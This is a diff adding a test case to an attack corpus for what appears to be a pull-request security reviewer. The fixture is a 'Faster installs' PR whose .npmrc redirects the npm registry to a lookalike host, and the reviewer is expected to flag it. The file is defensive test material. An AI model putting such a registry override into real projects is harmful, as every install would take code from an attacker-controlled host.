@@ -3659,4 +3659,17 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-pr-target-checkout'] },
   },
+  {
+    id: 'attack-npmrc-lookalike-registry',
+    description: 'A "faster installs" PR whose .npmrc points every package at registry.npmjs-mirror.org, a host spelled like the public registry: every install, CI included, takes what that host serves.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11031,
+        title: 'Faster installs',
+        author: 'newcomer',
+        files: [{ path: '.npmrc', base: lines('save-exact=true'), head: lines('save-exact=true', 'registry=https://registry.npmjs-mirror.org/') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['npm-registry-override'] },
+  },
 ];
